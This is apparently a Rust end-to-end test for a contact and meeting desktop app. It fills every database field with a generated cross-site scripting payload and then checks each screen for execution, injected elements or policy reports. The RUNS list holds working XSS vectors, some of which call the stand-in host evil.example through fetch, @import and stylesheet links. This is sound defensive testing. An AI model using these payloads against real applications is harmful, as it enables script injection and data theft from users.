//! Text that would run if anything took it for a page: in every field that a person, a file or another program can fill,
//! and then on the screens that show it. Nothing of it may run, become an element, or even be stopped by the policy.

use anyhow::{Result, ensure};
use rusqlite::{Connection, params};
use serde_json::json;

use crate::desktop::Desktop;
use crate::window::Window;

/// What would run. `@` is what it would do, `#` its number, by which it is told on the screen.
const RUNS: [&str; 25] = [
    "<img src=x class=pwn onerror=@>",
    "<svg class=pwn onload=@>",
    "<script class=pwn>@</script>",
    "</script><script>@</script>",
    "<iframe class=pwn srcdoc='<script>parent.@</script>'></iframe>",
    "<a class=pwn href=javascript:@>x</a>",
    "javascript:@",
    "\"><img src=x class=pwn onerror=@>",
    "' class=pwn autofocus onfocus='@",
    "\" class=pwn onmouseover=\"@",
    "<details open class=pwn ontoggle=@>",
    "<video class=pwn><source onerror=@></video>",
    "<style class=pwn>@import'//evil.example/#'</style>",
    "<link rel=stylesheet class=pwn href=//evil.example/#>",
    "<math><mi class=pwn xlink:href=javascript:@>",
    "<object class=pwn data=javascript:@></object>",
    "<form class=pwn action=javascript:@><button autofocus>x",
    "{@html '<img src=x class=pwn onerror=@>'}",
    "{{constructor.constructor('@')()}}",
    "${@}",
    "<!--><img src=x class=pwn onerror=@>-->",
    "<noscript><p title=\"</noscript><img src=x class=pwn onerror=@>\">",
    "<template shadowrootmode=open><img src=x class=pwn onerror=@></template>",
    "<base class=pwn href=//evil.example/>",
    "data:text/html,<script>@</script>",
];

/// How it may be dressed.
const DRESSED: [&str; 8] =
    ["*", "Ana * Ruiz", "\u{202e}*", "*\n*", "https://x.example/?*", "[x](*)", "“*”", "&lt;*&gt;"];

/// The text of one number, none like another.
#[must_use]
pub fn payload(number: usize) -> String {
    let act = ["window.__ran(#)", "top.__ran(#)", "alert(#)", "self['__ran'](#)", "fetch('//evil.example/#')"];
    let run = RUNS[number % RUNS.len()];
    let dress = DRESSED[number / RUNS.len() % DRESSED.len()];
    let act = act[number / RUNS.len() / DRESSED.len() % act.len()];
    let text = dress.replace('*', &run.replace("{@html", "{\u{1}html").replace('@', act).replace('\u{1}', "@"));
    format!("n{number}n {}", text.replace('#', &number.to_string()))
}

/// What is seen of it wherever it is shown.
fn mark(number: usize) -> String {
    format!("n{number}n")
}

/// Every field that is filled, as the schema names it.
pub const FIELDS: [&str; 47] = [
    "contact.name",
    "contact.given_name",
    "contact.family_name",
    "contact.name_title",
    "contact.nickname",
    "contact.credentials",
    "contact.linkedin_url",
    "contact.location",
    "contact.found_where",
    "contact.salutation",
    "contact.pronoun",
    "contact.about",
    "contact_email.address",
    "contact_phone.number",
    "contact_phone.label",
    "company.name",
    "employment.title",
    "employment.department",
    "tag.name",
    "meeting.place",
    "meeting.aim",
    "note.wording",
    "question.wording",
    "promise.wording",
    "thank_you.reason",
    "letter.recipient",
    "letter.subject",
    "letter.body",
    "letter_template.wording",
    "import.file_name",
    "draft.wording",
    "meeting.give",
    "research.wording",
    "research.source",
    "path.name",
    "meeting_path.wording",
    "bank_question.wording",
    "my_minute.name",
    "my_minute.wording",
    "my_station.name",
    "my_station.what",
    "contact_school.name",
    "contact_school.degree",
    "introduction.name",
    "introduction.about",
    "attachment.file_name",
    "travel.place",
];

/// Fills the data with `many` people, each with a meeting and all that belongs to one, and each with a text of its own in
/// every field.
///
/// # Errors
/// When a field is not there any more.
pub fn fill(desktop: &Desktop, many: usize) -> Result<()> {
    ensure!(desktop.confab(&["due"]).output()?.status.success(), "the data can be made");
    let mut conn = Connection::open(desktop.data().join("confab.db"))?;
    let tx = conn.transaction()?;
    for number in 1..=many {
        let (id, text) = (i64::try_from(number)?, payload(number));
        for sql in [
            "INSERT INTO company (id, uid, name, name_key, created_at) VALUES (?1, 'o' || ?1, ?2, 'k' || ?1, '2026-01-01T00:00:00Z')",
            "INSERT INTO contact (id, uid, name, given_name, family_name, name_title, nickname, credentials, name_key, sort_key,
               linkedin_url, location, found_where, salutation, pronoun, about, created_at, changed_at)
             VALUES (?1, 'c' || ?1, ?2, ?2, ?2, ?2, ?2, ?2, 'k' || ?1, 'k' || ?1, ?2, ?2, ?2, ?2, ?2, ?2,
               '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z')",
            "INSERT INTO contact_email (contact_id, address, address_key) VALUES (?1, ?2, 'k' || ?1)",
            "INSERT INTO contact_phone (contact_id, number, number_key, label) VALUES (?1, ?2, 'k' || ?1, ?2)",
            "INSERT INTO employment (contact_id, company_id, title, department) VALUES (?1, ?1, ?2, ?2)",
            "INSERT INTO tag (id, name, name_key) VALUES (?1, ?2, 'k' || ?1)",
            "INSERT INTO contact_tag (contact_id, tag_id) VALUES (?1, ?1)",
            "INSERT INTO meeting (id, uid, place, aim, give, starts_at, ended_at, zone, state, created_at, changed_at)
             VALUES (?1, 'm' || ?1, ?2, ?2, ?2, '2026-01-01T10:00:00Z', '2026-01-01T10:30:00Z', 'Europe/Berlin', 'held',
               '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z')",
            "INSERT INTO meeting_contact (meeting_id, contact_id) VALUES (?1, ?1)",
            "INSERT INTO note (uid, meeting_id, kind, wording, noted_at, changed_at)
             SELECT 'n' || ?1 || value, ?1, value, ?2, '2026-01-01T10:00:00Z', '2026-01-01T10:00:00Z'
             FROM json_each('[\"plain\", \"rocks\", \"sucks\", \"surprise\", \"skill\", \"advice\", \"quote\", \"resource\",
                              \"about_them\", \"ask_back\", \"opening\", \"moment\"]')",
            "INSERT INTO question (uid, meeting_id, wording, created_at, changed_at)
             VALUES ('q' || ?1, ?1, ?2, '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z')",
            "INSERT INTO promise (uid, contact_id, meeting_id, whose, wording, due_on, made_at, changed_at)
             VALUES ('p' || ?1, ?1, ?1, 'mine', ?2, '2026-01-02', '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z')",
            "INSERT INTO thank_you (id, uid, meeting_id, contact_id, reason, changed_at)
             VALUES (?1, 't' || ?1, ?1, ?1, ?2, '2026-01-01T00:00:00Z')",
            "INSERT INTO letter (uid, occasion, contact_id, meeting_id, channel, recipient, subject, body, changed_at)
             VALUES ('l' || ?1, 'thank_you', ?1, ?1, 'email', ?2, ?2, ?2, '2026-01-01T00:00:00Z')",
            "INSERT INTO import (uid, kind, file_name, file_sha256, imported_at, rows, added, updated, unchanged, skipped)
             VALUES ('i' || ?1, 'linkedin_connections', ?2, 'x', '2026-01-01T00:00:00Z', 1, 1, 0, 0, 0)",
            "INSERT OR REPLACE INTO letter_template (id, uid, occasion, language, tone, wording, changed_at)
             VALUES (1, 'x', 'thank_you', 'en', 'brief', ?2 || ?1, '2026-01-01T00:00:00Z')",
            "INSERT INTO research (uid, meeting_id, wording, source, created_at, changed_at)
             VALUES ('r' || ?1, ?1, ?2, ?2, '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z')",
            "INSERT INTO path (id, uid, name, name_key, created_at, changed_at)
             VALUES (?1, 'a' || ?1, ?2, 'k' || ?1, '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z')",
            "INSERT INTO meeting_path (uid, meeting_id, path_id, wording, changed_at)
             VALUES ('w' || ?1, ?1, ?1, ?2, '2026-01-01T00:00:00Z')",
            "INSERT INTO bank_question (uid, wording, created_at, changed_at)
             VALUES ('b' || ?1, ?2, '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z')",
            "INSERT INTO my_minute (uid, name, wording, position, changed_at)
             VALUES ('u' || ?1, ?2, ?2, ?1, '2026-01-01T00:00:00Z')",
            "INSERT INTO my_station (uid, kind, name, name_key, what, position, changed_at)
             VALUES ('s' || ?1, 'school', ?2, 'k' || ?1, ?2, ?1, '2026-01-01T00:00:00Z')",
            "INSERT INTO contact_school (contact_id, name, name_key, degree) VALUES (?1, ?2, 'k' || ?1, ?2)",
            "INSERT INTO introduction (uid, from_id, name, about, meeting_id, named_at, state_at, changed_at)
             VALUES ('d' || ?1, ?1, ?2, ?2, ?1, '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z')",
            "INSERT INTO attachment (uid, meeting_id, file_name, sha256, bytes, added_at, changed_at)
             VALUES ('f' || ?1, ?1, ?2, 'x', 1, '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z')",
            "INSERT INTO travel (uid, place, place_key, minutes, changed_at)
             VALUES ('v' || ?1, ?2, 'k' || ?1, 20, '2026-01-01T00:00:00Z')",
            "INSERT OR REPLACE INTO draft (id, place, wording, changed_at) VALUES (?1, 'note/' || ?1, ?2, '2026-01-01T00:00:00Z')",
        ] {
            if sql.contains("?2") {
                tx.prepare_cached(sql)?.execute(params![id, text])?;
            } else {
                tx.prepare_cached(sql)?.execute([id])?;
            }
        }
    }
    Ok(tx.commit()?)
}

/// What was seen.
#[derive(Debug, Default)]
pub struct Seen {
    pub screens: usize,
    /// Screens on which the text of their number was to be read.
    pub shown: usize,
    pub ran: usize,
    pub reported: usize,
    pub elements: usize,
}

/// Goes over every screen that shows one of `many` people, and over those that show all.
///
/// # Errors
/// When the window is gone.
pub fn walk(window: &Window, many: usize) -> Result<Seen> {
    window.script(
        "window.__seen = { ran: 0, reported: 0, elements: 0, screens: 0, shown: 0 };
         const ran = () => { window.__seen.ran += 1; };
         for (const name of ['__ran', 'alert', 'confirm', 'prompt']) window[name] = ran;
         document.addEventListener('securitypolicyviolation', () => { window.__seen.reported += 1; });
         return true",
    )?;
    let mut addresses: Vec<(String, String)> = Vec::new();
    for address in ["today", "people", "meetings", "import", "me", "me/letters", "me/letters/thank_you/en/brief"] {
        addresses.push((address.into(), "n".into()));
    }
    for number in 1..=many {
        for (screen, face) in
            [("people", ""), ("meeting", "/prepare"), ("meeting", "/meet"), ("meeting", "/wrap-up"), ("thank-you", "")]
        {
            addresses.push((format!("{screen}/{number}{face}"), mark(number)));
        }
    }
    // In parcels: a script may not take longer than the driver waits.
    for parcel in addresses.chunks(60) {
        window.script_waiting(
            "const [addresses, done] = arguments;
             const seen = window.__seen;
             const shows = (mark) => {
               const fields = [...document.querySelectorAll('input, textarea')].map((field) => field.value).join(' ');
               return (document.body.innerText + fields).includes(mark);
             };
             const go = async () => {
               for (const [address, mark] of addresses) {
                 location.hash = '#/' + address;
                 let is_shown = false;
                 for (let look = 0; look < 60 && !is_shown; look += 1) {
                   await new Promise((on) => setTimeout(on, 25));
                   is_shown = shows(mark);
                 }
                 // What would run does so in a moment of its own.
                 await new Promise((on) => setTimeout(on, 20));
                 seen.screens += 1;
                 seen.shown += is_shown ? 1 : 0;
                 seen.elements += document.querySelectorAll(
                   '.pwn, iframe, object, embed, base, script:not([src]):not([type=\"application/json\"])').length;
               }
               done(true);
             };
             go();",
            vec![json!(parcel)],
        )?;
    }
    let seen = window.script("return window.__seen")?;
    let count = |key: &str| usize::try_from(seen[key].as_u64().unwrap_or(u64::MAX)).unwrap_or(usize::MAX);
    Ok(Seen {
        screens: count("screens"),
        shown: count("shown"),
        ran: count("ran"),
        reported: count("reported"),
        elements: count("elements"),
    })
}
